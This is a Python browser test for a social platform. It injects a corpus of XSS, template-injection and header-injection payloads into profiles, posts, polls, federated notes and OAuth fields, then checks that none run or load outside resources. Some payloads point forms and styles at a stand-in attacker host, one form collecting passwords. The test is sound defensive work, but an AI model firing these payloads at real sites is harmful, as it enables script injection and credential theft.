"""Words that want to be code, through every field that reaches a page, a feed or an app, read by a real browser."""

import os
import re
import shutil
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlencode
from xml.etree import ElementTree

import pytest
from playwright.async_api import Browser, async_playwright

from server.actions import instance as instance_actions
from server.actions import topics as topic_actions
from server.rules.permissions import OPERATOR
from tests.api.pictures import png
from tests.browser.conftest import FLAGS
from tests.elsewhere import PUBLIC
from tests.hostile.ground import DOMAIN, House, Person, house, on_a_port

OUT_OF_BAND = "urn:ietf:wg:oauth:2.0:oob"
CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><body onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<a href="javascript&colon;alert(1)" id=x>x</a>',
    "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) ![z](https://elm.example/spy.png)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><form action=//evil.example><input name=password>",
    "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "\u202egnirts\u202c \u200b\ufeff\u0007\u000b\ufffe zalgo e\u0301\u0301\u0301",
    "]]></content><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "' autofocus onfocus=alert(1) x='",
)
EVERYTHING = " ".join(CORPUS)
LEADS_ASTRAY = re.compile(r"\s*(javascript|data|vbscript):", re.I)
MAY_NOT_BE = ("iframe", "object", "embed", "base", "style", "svg:script", "math", "mglyph")


LOOK = """[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
  .filter(a => a.name.startsWith('on') || /^\\s*(javascript|data|vbscript):/i.test(a.value)).map(a => e.outerHTML))
  .concat([...document.querySelectorAll('script:not([src]), iframe, object, embed, base, style')].map(e => e.outerHTML))
  .map(found => found.slice(0, 100))"""


class Reader(HTMLParser):
    """Finds what would run, load or lead astray in a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        runs = (
            (tag == "script" and "src" not in values) or tag in MAY_NOT_BE or (tag == "meta" and "http-equiv" in values)
        )
        if runs or any(name.startswith("on") or LEADS_ASTRAY.match(value) for name, value in values.items()):
            self.found.append(self.get_starttag_text() or tag)


def code_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    return reader.found


async def furnished(oak: House) -> tuple[Person, list[str]]:
    """Hostile words wherever somebody can put some; returns an admin and the pages where they are shown."""
    admin, rosa = await oak.join("joyce", "admin"), await oak.join("rosa")
    topic = await oak.topic("damp-homes", EVERYTHING[:60], description=EVERYTHING[:400])
    with oak.use():
        await topic_actions.edit_topic(OPERATOR, topic, name=CORPUS[4], description=CORPUS[1] + CORPUS[6])
        await instance_actions.change(OPERATOR, title=CORPUS[4][:60], description=CORPUS[1])
    fields = {f"fields_attributes[{n}][{part}]": CORPUS[n + 1] for n in range(4) for part in ("name", "value")}
    answer = await rosa.app.patch(
        "/api/v1/accounts/update_credentials", data={"display_name": CORPUS[2], "note": EVERYTHING[:480], **fields}
    )
    assert answer.status_code in (200, 422), answer.text
    await rosa.app.patch("/api/v1/accounts/update_credentials", data={"display_name": CORPUS[1][:30]})
    picture = await rosa.app.post(
        "/api/v2/media",
        files={"file": ("<script>alert(1)</script>.png", png(), "image/png")},
        data={"description": EVERYTHING[:1400]},
    )
    said = await rosa.say(EVERYTHING[:900], spoiler_text=CORPUS[4], media_ids=[picture.json()["id"]], language="en")
    poll = await rosa.say("Which?", poll={"options": [CORPUS[1], CORPUS[2]], "expires_in": 3600})
    tagged = await rosa.say(
        '#a"onload=alert(1) #<script>x #ｓｃｒｉｐｔ #\' #한국 https://elm.example/"onmouseover=alert(1)'
    )
    raised = await rosa.say(
        f"@damp-homes {CORPUS[4]}\n\nWhat we see: {CORPUS[1]}\nWhich rule: {CORPUS[2]}\n"
        f"What should change: {CORPUS[5]}\n#Proposal"
    )
    await rosa.app.put(
        f"/api/v1/statuses/{said['id']}", json={"status": EVERYTHING[200:900], "spoiler_text": CORPUS[0]}
    )
    comment = await rosa.say(f"@joyce {EVERYTHING[:600]}", in_reply_to_id=raised["id"])
    await admin.app.post(
        "/api/v1/reports",
        json={"account_id": str(rosa.by.account_id), "comment": EVERYTHING[:900], "status_ids": [said["id"]]},
    )
    river = oak.here.stranger("river", summary=EVERYTHING, url="javascript:alert(1)")
    river.more |= {"name": CORPUS[1], "attachment": [{"type": "PropertyValue", "name": CORPUS[0], "value": CORPUS[2]}]}
    oak.here.publish(river)
    note = river.note(
        "1",
        EVERYTHING,
        summary=CORPUS[4],
        name=CORPUS[0],
        url="javascript:alert(1)",
        inReplyTo=raised["uri"],
        to=[PUBLIC, rosa_uri(oak)],
        tag=[
            {"type": "Hashtag", "name": "#<script>alert(1)</script>", "href": "javascript:alert(1)"},
            {
                "type": "Emoji",
                "name": ":<img src=x onerror=alert(1)>:",
                "icon": {"type": "Image", "url": "javascript:alert(1)"},
            },
            {"type": "Mention", "name": CORPUS[1], "href": rosa_uri(oak)},
        ],
        attachment=[
            {"type": "Document", "mediaType": "image/png", "url": "javascript:alert(1)", "name": CORPUS[1]},
            {"type": "Document", "mediaType": "text/html", "url": "https://elm.example/x.html", "name": CORPUS[2]},
        ],
    )
    oak.here.elsewhere.at[note["id"]] = {"@context": "https://www.w3.org/ns/activitystreams", **note}
    if oak.instance.settings.domain == DOMAIN:
        assert (await oak.here.post(river, river.create(note))).status_code == 202
    else:
        with oak.use():
            await oak.instance.elsewhere.find_post(note["id"])
    await oak.work()
    with oak.use():
        assert await oak.here.count("posts", "uri LIKE 'https://elm.example/%'") == 1, (
            "the stranger's words did not come in"
        )
    pages = [
        "/",
        "/proposals",
        "/topics",
        "/topics/damp-homes",
        "/search?q=alert",
        "/about",
        "/users/rosa",
        "/notifications",
        f"/posts/{said['id']}",
        f"/posts/{said['id']}/versions",
        f"/posts/{poll['id']}",
        f"/posts/{tagged['id']}",
        f"/proposals/{raised['id']}",
        f"/posts/{comment['id']}",
        f"/posts/{comment['id']}/reply",
        f"/posts/{said['id']}/report",
        "/moderation",
        "/admin/topics",
        "/admin/topics/damp-homes",
        "/admin/site",
        "/admin/peers",
        f"/search?q={'%22%3E%3Csvg%20onload%3Dalert(1)%3E'}",
        f"/{'%3Cscript%3Ealert(1)%3C/script%3E'}",
        "/sign-in?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "/?done=%3Cscript%3Ealert(1)%3C/script%3E",
    ]
    return admin, pages


def rosa_uri(oak: House) -> str:
    return f"{oak.instance.settings.base_url}/users/rosa"


@pytest.fixture
async def chromium() -> AsyncIterator[Browser]:
    path = os.environ.get("FOLKMOOT_TEST_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
    if not path:
        pytest.skip("no Chromium found: install it, or name it in FOLKMOOT_TEST_CHROMIUM")
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=path, args=FLAGS)
        yield browser
        await browser.close()


@pytest.mark.browser
async def test_no_words_become_code_in_a_real_browser(tmp_path: Path, chromium: Browser) -> None:
    async with on_a_port(tmp_path) as oak:
        admin, pages = await furnished(oak)
        context = await chromium.new_context()
        name, _, value = admin.browser.headers["cookie"].partition("=")
        await context.add_cookies([{"name": name, "value": value, "url": oak.instance.settings.base_url}])
        faults: list[str] = []
        page = await context.new_page()
        page.on("dialog", lambda dialog: faults.append(f"dialog on {page.url}"))
        page.on(
            "console",
            lambda said: faults.append(f"{page.url}: {said.text}") if "Content Security Policy" in said.text else None,
        )
        page.on(
            "request",
            lambda sent: (
                None
                if sent.url.startswith(oak.instance.settings.base_url)
                else faults.append(f"{page.url} asks {sent.url}")
            ),
        )
        app = (
            await oak.visitor.post(
                "/api/v1/apps",
                json={
                    "client_name": CORPUS[4] + CORPUS[1],
                    "website": "https://app.example/",
                    "redirect_uris": OUT_OF_BAND,
                },
            )
        ).json()
        asks = {"client_id": app["client_id"], "redirect_uri": OUT_OF_BAND, "response_type": "code"}
        consent = f"/oauth/authorize?{urlencode(asks)}"
        for path in [*pages, consent, "/oauth/authorize/native?code=%3Cscript%3Ealert(1)%3C/script%3E"]:
            answer = await page.goto(oak.instance.settings.base_url + path)
            assert answer is not None
            assert answer.status < 500, path
            assert await page.locator("main").count() == 1, f"{path} is torn apart"
            assert await page.locator("footer").count() >= 1, f"{path} ends early"
            made: Any = await page.evaluate(LOOK)
            assert made == [], (path, made)
        assert faults == []


async def test_no_words_become_markup_in_what_apps_and_feeds_get(tmp_path: Path) -> None:
    async with house(tmp_path) as oak:
        admin, pages = await furnished(oak)
        for path in pages:
            text = (await admin.browser.get(path)).text
            assert code_in(text) == [], path
        for path in ("/proposals/feed.atom", "/topics/damp-homes/feed.atom", "/@rosa/feed.atom"):
            feed = await oak.visitor.get(path)
            assert feed.status_code == 200, path
            for content in ElementTree.fromstring(feed.text).iter("{http://www.w3.org/2005/Atom}content"):
                assert code_in(content.text or "") == [], path
        for path in (
            "/api/v1/timelines/public",
            "/api/v1/notifications",
            "/api/v1/accounts/lookup?acct=rosa",
            "/api/v2/instance",
        ):
            answer = await admin.app.get(path)
            assert answer.status_code == 200, path
            for html in html_of(answer.json()):
                assert code_in(html) == [], path
                assert LEADS_ASTRAY.match(html) is None, (path, html)


def html_of(value: Any) -> list[str]:
    """Everything that an app would show as HTML, and every address it would follow."""
    if isinstance(value, list):
        return [html for each in value for html in html_of(each)]
    if not isinstance(value, dict):
        return []
    own = [
        text
        for key, text in value.items()
        if key in ("content", "note", "url", "value", "uri") and isinstance(text, str)
    ]
    return own + [html for each in value.values() for html in html_of(each)]
